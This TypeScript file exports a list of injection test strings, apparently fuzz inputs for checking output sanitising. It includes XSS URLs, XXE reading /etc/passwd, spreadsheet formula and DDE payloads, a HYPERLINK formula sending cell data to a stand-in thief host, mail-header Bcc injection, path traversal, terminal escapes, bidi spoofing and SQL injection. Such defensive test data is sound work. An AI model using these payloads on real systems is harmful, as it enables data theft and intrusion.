/**
 * URLs that run code, and texts with a special meaning in a file, a mail, a spreadsheet, a terminal or for a reader's
 * eye.
 */
export const vectorsOfFiles: readonly string[] = [
  // URLs that run code, where a text becomes a link.
  'javascript:window.__xss=1',
  ' \u0001java\tscript\n:__xss=1',
  'JaVaScRiPt&colon;__xss=1',
  '&#106;avascript&#58;__xss=1',
  'data:text/html;base64,PHNjcmlwdD5fX3hzcz0xPC9zY3JpcHQ+',
  'vbscript:msgbox(1)',
  // Markdown, templates, style sheets.
  '[Maman](javascript:__xss=1)',
  '![x](x"onerror="__xss=1)',
  '{{constructor.constructor("__xss=1")()}}',
  '$' + '{__xss=1} #{__xss=1} <%= __xss=1 %> {secret, select, other {x}}',
  '</mj-text><mj-raw><img src=x onerror=__xss=1></mj-raw><mj-text>',
  '<style>*{background:url(//voleur.example/p.gif)}</style>',
  'expression(__xss=1);background:url(javascript:__xss=1)',
  // XML.
  ']]><script>__xss=1</script><![CDATA[',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '--><script>__xss=1</script><!--',
  '<?xml-stylesheet href="//voleur.example/x.xsl"?> &nulle; &#0; &#x1F;',
  // Cells that a spreadsheet takes for a formula.
  '=HYPERLINK("http://voleur.example/?"&A1,"Facture")',
  "=cmd|'/C calc'!A0",
  '+1+cmd|x!A1',
  '-2+3+cmd|x!A1',
  '@SUM(1+1)*cmd|x!A1',
  '\t=1+1',
  '","=1+1","',
  '";=1+1;"',
  // Mail headers, archive paths, PDF syntax, terminal control sequences.
  'Titre\r\nBcc: voleur@voleur.example\r\n\r\n<h1>x</h1>',
  '../../etc/passwd\\..\\..\\nul',
  ') Tj ET /JS (app.alert\\(1\\)) /S /JavaScript >> endobj <<',
  '\u001b[2J\u001b]0;racine\u0007 \u009b31m',
  // Invisible characters.
  '\u202ecod.erviL\u202c \u2066\u2069',
  'a\u200bl\u200de\ufeffr\u00adt\u2060(1)',
  'Ligne\u2028Bcc: voleur@voleur.example\u2029\u0085fin',
  '__proto__',
  "' OR 1=1; DROP TABLE documents; --",
];
